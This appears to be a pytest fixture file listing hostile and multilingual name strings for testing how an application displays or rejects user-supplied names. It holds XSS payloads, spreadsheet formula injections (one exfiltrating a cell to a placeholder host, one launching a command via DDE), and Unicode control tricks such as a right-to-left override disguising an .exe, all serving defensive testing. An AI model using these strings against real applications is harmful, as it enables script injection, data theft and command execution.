"""Names as somebody gives them who wishes the others ill, or writes in another alphabet."""

# ruff: noqa: RUF001 - they look like other letters

from typing import Any

import pytest

MARKUP = {
    "markup": "<b>bold</b> *y* `z` $x$ #1",
    "script": "<script>alert(1)</script>",
    "picture with a script": "<img src=http://other.test/x onerror=alert(1)>",
    "link to a script": "[x](javascript:alert(1))",
    "picture in Markdown": "![x](http://other.test/y.png)",
    "end of a script": "</script></title><script>alert(1)</script>",
    "colours and icons": ":red[x] :material/home: :smile:",
}
FORMULAS = {
    "formula": '=HYPERLINK("http://other.test?"&A1,"x")',
    "command": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "function": "@SUM(1)",
    "wide signs": "＝1+1",
    "formula in the second cell": "x;=1+1",
    "formula after a quote": '",=1+1',
}
ALPHABETS = {
    "Arabic": "شبكة الأرقام",
    "Persian, with a mark that is not seen": "می\u200cخواهم",
    "Chinese": "手写数字",
    "emoji of several characters": "👩🏽\u200d🚀 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "combining marks": "n\u0303 e\u0301 Z̷̢̛̖ä̵́l̶g̸o̵",
}
SHOWN = MARKUP | FORMULAS | ALPHABETS
"""Are shown as they are given."""
CONTROLS = {
    "NUL": "a\0b",
    "escape sequence": "a\x1b[31mb",
    "turned to the left": "a\u202egpj.exe",
    "isolate": "a\u2067b",
    "half a character": "a\udcffb",
}
REFUSED = CONTROLS | {"10,000 letters": 10_000 * "x"}
"""Are refused in a sentence."""


def each(names: dict[str, str]) -> Any:
    """Run a test with each of the names, as `name`."""
    return pytest.mark.parametrize("name", names.values(), ids=names)
